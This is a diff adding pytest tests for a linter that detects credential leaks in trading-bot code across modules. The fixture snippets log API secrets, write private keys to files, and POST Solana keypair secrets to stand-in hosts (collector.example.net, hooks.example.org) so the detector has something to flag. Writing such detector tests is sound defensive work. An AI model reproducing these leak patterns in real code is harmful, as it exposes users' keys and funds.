@@ -1,0 +1,193 @@
+"""Cross-module BOT2 patterns measured on freshly written bots (issue 9, item 3): returns built
+from parameters, derived signers, per-element taint of imported tuples, pydantic SecretStr
+fields, and the "(line N)" of a source read on the sink's own line.
+
+Each project is a few modules written the way bots are; ``project`` (test_dataflow_link) lints
+the main module with the closed facts of the others, as the engine's link step does.
+"""
+from __future__ import annotations
+
+from typing import Dict, List, Tuple
+
+import pytest
+
+from test_dataflow_link import lint, project
+
+
+def codes(found: List[Tuple[str, str]]) -> List[str]:
+    return sorted(code for code, _msg in found)
+
+
+# -- 1. a helper of another module returns a string built from its parameter -----------------------
+
+MODELS = ("from dataclasses import dataclass\n\n\n@dataclass\nclass ApiAccount:\n    name: str\n"
+          "    key: str\n    secret: str\n")
+LOGS_LOGURU = "from loguru import logger\n\n\ndef emit(text: str) -> None:\n    logger.info(text)\n"
+LOGS_LOGGING = ("import logging\n\nlog = logging.getLogger(__name__)\n\n\ndef emit(text):\n"
+                "    log.warning('event: %s', text)\n")
+
+
+@pytest.mark.parametrize("fmt", [
+    # f-string of an annotated dataclass parameter's credential fields
+    "from bot.models import ApiAccount\n\n\ndef describe(acc: ApiAccount) -> str:\n"
+    "    return f'{acc.name}: key={acc.key} secret={acc.secret}'\n",
+    # a formatted string built in two steps
+    "from bot.models import ApiAccount\n\n\ndef describe(acc: 'ApiAccount'):\n"
+    "    line = 'account {} secret {}'.format(acc.name, acc.secret)\n    return line\n",
+])
+@pytest.mark.parametrize("logs", [LOGS_LOGURU, LOGS_LOGGING])
+def test_formatted_credential_of_an_annotated_parameter_returned_then_logged_elsewhere(fmt, logs):
+    main = ("import os\nfrom bot.models import ApiAccount\nfrom bot.fmt import describe\nfrom bot.logs import emit\n\n"
+            "acc = ApiAccount('binance', os.environ['BINANCE_API_KEY'], os.environ['BINANCE_API_SECRET'])\n"
+            "emit(describe(acc))\n")
+    found = project({"bot.models": MODELS, "bot.fmt": fmt, "bot.logs": logs, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201"], found
+    assert "describe()" in found[0][1] and "emit()" in found[0][1]
+
+
+def test_a_parameter_returned_by_another_modules_helper_carries_the_callers_credential():
+    fmt = "def banner(key, venue):\n    return f'[{venue}] using key {key}'\n"
+    main = ("import os, logging\nfrom bot.fmt import banner\nlog = logging.getLogger(__name__)\n"
+            "log.info(banner(os.environ['KRAKEN_API_KEY'], 'kraken'))\n"
+            "log.info(banner('public', 'kraken'))\n"  # nothing secret passed: clean
+            "log.info(banner(venue=os.environ['KRAKEN_API_KEY'], key='x'))\n")
+    found = project({"bot.fmt": fmt, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201", "BOT201"], found
+    assert all("KRAKEN_API_KEY" in m for _c, m in found)
+
+
+def test_returned_parameters_follow_a_chain_of_modules_through_close():
+    render = "def render(value, width=40):\n    return str(value).ljust(width)\n"
+    fmt = "from bot.render import render\n\n\ndef banner(key):\n    return render(f'key={key}')\n"
+    main = ("import os\nfrom loguru import logger\nfrom bot.fmt import banner\n"
+            "logger.info(banner(os.environ['OKX_API_SECRET']))\nlogger.info(banner('demo'))\n")
+    files = {"bot.render": render, "bot.fmt": fmt, "bot.main": main}
+    found = project(files, "bot.main")
+    assert codes(found) == ["BOT201"], found
+    # a helper that returns something else (a length) is no carrier
+    files["bot.render"] = "def render(value, width=40):\n    return len(str(value))\n"
+    assert project(files, "bot.main") == []
+
+
+def test_a_helper_returning_a_hash_of_its_parameter_is_clean():
+    fmt = "import hashlib\n\n\ndef fingerprint(key):\n    return hashlib.sha256(key.encode()).hexdigest()[:8]\n"
+    main = ("import os, logging\nfrom bot.fmt import fingerprint\n"
+            "logging.getLogger().info('key %s', fingerprint(os.environ['BYBIT_API_KEY']))\n")
+    assert project({"bot.fmt": fmt, "bot.main": main}, "bot.main") == []
+
+
+# -- 2. objects derived from a key ------------------------------------------------------------------
+
+def test_solders_keypair_str_and_bytes_are_its_secret():
+    src = ("import os, logging, requests\nfrom solders.keypair import Keypair\n\nlog = logging.getLogger(__name__)\n"
+           "kp = Keypair.from_base58_string(os.environ['SOLANA_PRIVATE_KEY'])\n\n\ndef report():\n"
+           "    log.info(kp.secret().hex())\n"
+           "    requests.post('https://collector.example.net/x', json={'kp': str(kp)})\n"
+           "    log.info('signer %s', bytes(kp))\n"
+           "    log.info('wallet %s', kp.pubkey())\n"  # the public key: clean
+           "    log.info('wallet %s', str(kp.pubkey()))\n")
+    found = lint(src, "bot.wallet", "bot/wallet.py")[1]
+    assert codes(found) == ["BOT201", "BOT201", "BOT205"], found
+
+
+def test_a_fresh_keypair_and_an_eth_account_object_are_not_their_str():
+    src = ("import os\nfrom solders.keypair import Keypair\nfrom eth_account import Account\n"
+           "kp = Keypair()\nacct = Account.from_key(os.environ['ETH_PRIVATE_KEY'])\n"
+           "print('new wallet', kp.pubkey())\nprint('account', acct.address, str(acct.address))\n")
+    assert lint(src, "bot.wallet", "bot/wallet.py")[1] == []
+
+
+@pytest.mark.parametrize("wallet", [
+    "import os\nfrom eth_account import Account\n\nacct = Account.from_key(os.environ['PRIVATE_KEY'])\n",
+    "import os\nfrom web3 import Web3\n\nw3 = Web3()\n"
+    "acct = w3.eth.account.from_key(os.getenv('WALLET_PRIVATE_KEY'))\n",
+])
+def test_an_account_of_another_module_whose_key_is_written_or_printed(wallet):
+    main = ("from bot.wallet import acct\n\n\ndef backup(path):\n    with open(path, 'w') as fh:\n"
+            "        fh.write(acct.key.hex())\n    print('private key:', acct.key.hex())\n"
+            "    print('address:', acct.address)\n")
+    found = project({"bot.wallet": wallet, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201", "BOT204"], found
+
+
+def test_a_keypair_of_another_module_sent_or_logged():
+    wallet = ("import os\nfrom solders.keypair import Keypair\n\n"
+              "signer = Keypair.from_bytes(bytes.fromhex(os.environ['SOL_SECRET_HEX']))\n")
+    main = ("import logging, requests\nfrom bot.wallet import signer\nlog = logging.getLogger(__name__)\n"
+            "log.info('loaded %s', signer)\nlog.info('pubkey %s', signer.pubkey())\n"
+            "requests.post('https://hooks.example.org/w', json={'kp': str(signer)})\n")
+    found = project({"bot.wallet": wallet, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201", "BOT205"], found
+
+
+# -- 7. per-element taint of another module's tuple ---------------------------------------------------
+
+CREDS = ("import os\n\nOKX_CREDS = ('okx', os.environ['OKX_KEY'], os.environ['OKX_SECRET'], "
+         "os.environ['OKX_PASS'])\nVENUES = ['okx', 'bybit']\n")
+
+
+def test_elements_of_an_imported_credential_tuple_keep_their_own_taint():
+    main = ("import logging\nfrom bot.config import OKX_CREDS\nlog = logging.getLogger(__name__)\n\n\n"
+            "def start():\n    name, key, secret, passphrase = OKX_CREDS\n    log.info('venue %s', name)\n"
+            "    log.info('venue %s', OKX_CREDS[0])\n    log.info('first %s', OKX_CREDS[-4])\n")
+    assert project({"bot.config": CREDS, "bot.main": main}, "bot.main") == []
+
+
+def test_credential_elements_of_an_imported_tuple_leak():
+    main = ("import logging\nfrom bot.config import OKX_CREDS\nlog = logging.getLogger(__name__)\n"
+            "name, key, secret, passphrase = OKX_CREDS\nlog.info(OKX_CREDS[1])\nlog.info('s=%s', secret)\n"
+            "log.info('all %s', OKX_CREDS)\n")
+    found = project({"bot.config": CREDS, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201"] * 3, found
+    assert "OKX_SECRET" in found[1][1]
+
+
+# -- 8. pydantic SecretStr fields are masked when shown ---------------------------------------------
+
+SETTINGS = ("from pydantic import SecretStr\nfrom pydantic_settings import BaseSettings\n\n\n"
+            "class Creds(BaseSettings):\n    api_key: str = ''\n    api_secret: SecretStr\n\n\ncreds = Creds()\n")
+
+
+def test_secretstr_field_of_another_modules_instance_is_masked_until_revealed():
+    main = ("import logging\nfrom bot.settings import creds\nlog = logging.getLogger(__name__)\n"
+            "log.info('secret %s', creds.api_secret)\nlog.info('secret %s', creds.api_secret.get_secret_value())\n"
+            "log.info('key %s', creds.api_key)\n")
+    found = project({"bot.settings": SETTINGS, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201", "BOT201"], found
+    assert "get_secret_value()" in found[0][1] and "api_key" in found[1][1]
+
+
+def test_secretstr_field_of_a_parameter_annotated_with_an_imported_class():
+    main = ("import logging\nfrom bot.settings import Creds\nlog = logging.getLogger(__name__)\n\n\n"
+            "def start(creds: Creds):\n    log.info('secret %s', creds.api_secret)\n"
+            "    log.debug('secret %s', creds.api_secret.get_secret_value())\n")
+    found = project({"bot.settings": SETTINGS, "bot.main": main}, "bot.main")
+    assert codes(found) == ["BOT201"], found
+
+
+@pytest.mark.parametrize("base", ["BaseModel", "BaseSettings"])
+def test_secretstr_field_of_a_local_annotated_parameter(base):
+    src = (f"import logging\nfrom pydantic import SecretStr, BaseModel\nfrom pydantic_settings import BaseSettings\n"
+           f"log = logging.getLogger(__name__)\n\n\nclass Creds({base}):\n    api_secret: SecretStr\n"
+           "    api_key: str\n\n\ndef start(creds: Creds):\n    log.info('s %s', creds.api_secret)\n"
+           "    log.info('s %s', creds.api_secret.get_secret_value())\n    log.info('k %s', creds.api_key)\n")
+    found = lint(src, "bot.main", "bot/main.py")[1]
+    assert codes(found) == ["BOT201", "BOT201"], found
+
+
+# -- 9. a source on the sink's own line ---------------------------------------------------------------
+
+def test_no_line_is_cited_for_a_source_read_on_the_sink_line():
+    src = ("import logging, os\nlog = logging.getLogger(__name__)\nKEY = os.environ['BINANCE_API_KEY']\n\n\n"
+           "def f(cfg):\n    log.debug('k %s', cfg.api_secret)\n    log.debug('k %s', KEY)\n")
+    found: Dict[str, str] = {m.split(" ")[0]: m for _c, m in lint(src, "bot.m", "bot/m.py")[1]}
+    assert "(line" not in found["cfg.api_secret"]
+    assert "(line 3)" in found["BINANCE_API_KEY"]
+
+
+def test_a_returned_section_named_only_by_a_plural_is_not_a_credential_of_another_module():
+    # ``settings.secrets`` is the options of a secret scanner, dumped as key/value pairs
+    cfg = ("def describe(settings):\n    keys = [(k, v) for k, v in vars(settings.secrets).items()]\n"
+           "    return '\\n'.join(f'{k} = {v}' for k, v in keys)\n")
+    main = "import sys\nfrom tool.config import describe\n\n\ndef run(settings):\n    sys.stdout.write(describe(settings))\n"
+    assert project({"tool.config": cfg, "tool.cli": main}, "tool.cli") == []
